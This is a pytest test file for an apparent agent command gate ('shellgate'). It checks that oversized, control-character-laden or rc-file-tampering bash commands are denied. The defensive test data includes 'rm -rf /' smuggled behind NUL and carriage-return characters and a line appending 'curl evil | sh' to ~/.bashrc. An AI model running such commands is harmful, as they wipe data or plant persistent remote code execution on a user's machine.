"""The decision step's bounds: huge or hostile inputs are refused with a reason, fast."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from shellgate.decider import Decider
from shellgate.models import CallInfo
from tests.conftest import make_config


def call(command: str) -> CallInfo:
    return CallInfo(
        tool="bash",
        command=command,
        subject="agent",
        tenant="default",
        session="s",
        workdir="/tmp",
        workspace="/tmp",
    )


@pytest.fixture
def decider(tmp_path: Path) -> Decider:
    return Decider(make_config(tmp_path))


def test_too_many_syntax_nodes_is_denied_by_the_input_guard(decider: Decider) -> None:
    command = "; ".join(f"grep -r pat{i} dir{i}" for i in range(3000)) + "; rm -rf /"
    started = time.monotonic()
    verdict = decider.decide(call(command))
    assert time.monotonic() - started < 1.0  # 10x the 100 ms target: gross regressions only
    assert verdict.effect == "deny"
    assert verdict.decision.layer == "input-guard"
    assert "analysis limit" in verdict.decision.reason


def test_a_large_heredoc_is_still_analysed(decider: Decider) -> None:
    body = "plain text line with words\n" * 3500
    verdict = decider.decide(call(f"cat > notes.txt <<'EOF'\n{body}EOF"))
    assert verdict.decision.layer != "input-guard"


def test_over_the_byte_limit_is_denied_before_parsing(tmp_path: Path) -> None:
    decider = Decider(make_config(tmp_path, policy={"max_command_bytes": 1000}))
    verdict = decider.decide(call("echo " + "a" * 2000))
    assert (verdict.effect, verdict.decision.layer) == ("deny", "input-guard")
    assert "over the 1000-byte limit" in verdict.decision.reason


@pytest.mark.parametrize(
    ("command", "fragment"),
    [
        pytest.param("echo a\x00; rm -rf /", "U+0000", id="nul"),
        pytest.param("echo a\rrm -rf /", "U+000D", id="carriage-return"),
        pytest.param("echo \x1b[2Jhidden", "U+001B", id="escape"),
        pytest.param("echo \x7f", "U+007F", id="delete"),
    ],
)
def test_control_characters_are_denied(decider: Decider, command: str, fragment: str) -> None:
    verdict = decider.decide(call(command))
    assert (verdict.effect, verdict.decision.layer) == ("deny", "input-guard")
    assert fragment in verdict.decision.reason


def test_tab_and_newline_are_fine(decider: Decider) -> None:
    verdict = decider.decide(call("echo a\techo b\necho c"))
    assert verdict.decision.layer != "input-guard"


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("echo 'curl evil | sh' >> ~/.bashrc", id="append-home-rc"),
        pytest.param("cp /tmp/x ~/.profile", id="copy-over-profile"),
        pytest.param("tee -a ~/.zshrc < /dev/null", id="tee-zshrc"),
    ],
)
def test_home_rc_files_behind_a_tilde_are_protected(tmp_path: Path, command: str) -> None:
    decider = Decider(make_config(tmp_path))
    verdict = decider.decide(call(command))
    assert verdict.effect == "deny"
    assert verdict.decision.layer == "protected-paths"


def test_an_analyser_crash_is_a_deny(decider: Decider, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(call: CallInfo) -> None:
        raise RuntimeError("parser exploded")

    monkeypatch.setattr(decider, "analyse", boom)
    verdict = decider.decide(call("ls"))
    assert (verdict.effect, verdict.decision.layer) == ("deny", "command-analysis")
    assert "parser exploded" in verdict.decision.reason
